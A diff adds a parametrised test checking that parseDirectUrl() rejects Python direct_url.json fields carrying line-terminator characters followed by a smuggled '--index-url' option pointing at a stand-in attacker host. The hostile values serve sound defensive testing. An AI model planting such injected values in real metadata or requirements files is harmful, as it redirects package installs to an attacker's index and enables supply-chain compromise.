@@ -26,6 +26,28 @@ test.each(["", "[", "null", "[]", '"text"', '{"url": 3, "dir_info": {}}', '{"url
   },
 );
 
+// Promise: what an environment of others records adds no line to a requirements file
+// Attack: a `direct_url.json` has what Python takes for a line end, and after it the option of another index
+test.each(
+  ["\n", "\r", "\v", "\f", "\u{1C}", "\u{85}", "\u{2028}", "\u{2029}", "\0"].flatMap((end) => {
+    const hostile = `a${end}--index-url https://attacker.example/simple`;
+    const repository = { vcs: "git", commit_id: "0123" };
+    return [
+      { url: `https://example.com/${hostile}`, archive_info: {} },
+      { url: "https://example.com/a.zip", subdirectory: hostile, archive_info: {} },
+      { url: "https://example.com/a.zip", archive_info: { hashes: { sha256: hostile } } },
+      { url: "https://example.com/a.zip", archive_info: { hashes: { [hostile]: "ab" } } },
+      { url: "https://example.com/a.zip", archive_info: { hash: `sha256=${hostile}` } },
+      { url: "https://example.com/a.git", vcs_info: { ...repository, vcs: hostile } },
+      { url: "https://example.com/a.git", vcs_info: { ...repository, commit_id: hostile } },
+      { url: "https://example.com/a.git", vcs_info: { ...repository, requested_revision: hostile } },
+      { url: `file:///home/ada/${hostile}`, dir_info: { editable: true } },
+    ];
+  }),
+)("parseDirectUrl() refuses control characters: %j", (document) => {
+  expect(() => parseDirectUrl(document)).toThrowError(expect.objectContaining({ code: "wheel/invalid" }));
+});
+
 test.each([
   ["https://user:secret@example.com/a.zip", "https://example.com/a.zip"],
   ["https://secret@example.com/a.zip?q=1#x", "https://example.com/a.zip?q=1#x"],
